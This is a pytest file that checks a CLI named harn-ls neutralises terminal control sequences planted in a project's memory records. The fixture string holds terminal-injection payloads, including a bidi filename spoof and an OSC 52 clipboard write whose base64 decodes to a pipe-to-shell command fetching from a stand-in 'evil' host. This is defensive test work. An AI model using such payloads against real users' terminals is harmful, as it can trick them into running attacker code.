"""The CLI never lets data text drive the terminal: a real `harn-ls` process on a cloned project
whose memory record, fact claim and skill description carry ESC/OSC sequences and bidi overrides."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import orjson

REPO = Path(__file__).resolve().parents[2]
SAMPLE = REPO / "fixtures" / "sample-project"
# clear screen, set the window title, OSC 52 (write the clipboard), a C1 CSI, a right-to-left override
KEY = "evil\x1b]0;owned-key\x07\u202eyek"
ATTACK = "invoice rounding \x1b[2J\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x9b31m \u202etxt.exe"


def _run(*args: str) -> bytes:
    proc = subprocess.run([sys.executable, "-m", "harn_ls", *args], capture_output=True, cwd=str(REPO), timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert b"\x1b" not in proc.stderr
    return proc.stdout


def _hostile_project(tmp_path: Path) -> Path:
    proj = tmp_path / "proj"
    shutil.copytree(SAMPLE, proj)
    log = proj / ".harn" / "memory" / "agent" / "notes" / "events.jsonl"
    with open(log, "a", encoding="utf-8") as fh:
        fh.write(json.dumps({"type": "store", "id": "evil-1", "namespace": "agent/notes", "key": KEY,
                             "value": ATTACK, "text": ATTACK, "tags": [], "stored_at": "2026-05-01T00:00:00Z"}) + "\n")
    return proj


def _assert_inert(out: bytes) -> None:
    assert b"\x1b" not in out and b"\x07" not in out
    assert "\u202e".encode() not in out and "\x9b".encode() not in out


def test_recall_text_and_json_print_controls_as_visible_escapes(tmp_path):
    proj = _hostile_project(tmp_path)
    text = _run("recall", str(proj), "invoice rounding", "-k", "20", "--no-cache")
    _assert_inert(text)
    assert b"\\u001b]52;c;" in text and b"\\u202etxt.exe" in text
    raw = _run("recall", str(proj), "invoice rounding", "-k", "20", "--json", "--no-cache")
    _assert_inert(raw)
    hits = orjson.loads(raw)
    hits = hits["results"] if isinstance(hits, dict) else hits
    assert KEY in {h["key"] for h in hits}  # valid JSON that decodes to the original key


def test_show_text_and_markdown_formats_are_inert(tmp_path):
    proj = _hostile_project(tmp_path)
    for fmt in ("text", "md"):
        out = _run("show", str(proj), "harn-state:/memory/agent/notes.md", "--format", fmt, "--no-cache")
        _assert_inert(out)
        assert b"owned" in out
